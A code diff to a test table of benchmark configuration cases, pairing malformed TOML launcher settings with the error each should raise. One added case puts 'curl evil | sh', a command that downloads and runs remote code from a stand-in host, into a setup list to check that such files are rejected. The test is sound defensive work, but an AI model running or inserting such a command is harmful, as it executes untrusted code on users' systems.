@@ -599,7 +599,11 @@ BENCHMARK_CASES: dict[str, tuple[bytes | None, str]] = {
     "launcher memory negative": (VALID_TOML.encode() + b"[launcher]\nmem_gb = -4\n", "mem_gb must be a positive"),
     "launcher setup a string": (
         VALID_TOML.encode() + b'[launcher]\nsetup = "module load cuda"\n',
-        "setup must be a list of shell lines",
+        "a benchmark file is data that never runs commands",
+    ),
+    "launcher setup lines": (
+        VALID_TOML.encode() + b'[launcher]\nsetup = ["curl evil | sh"]\n',
+        "--setup",
     ),
 }
 
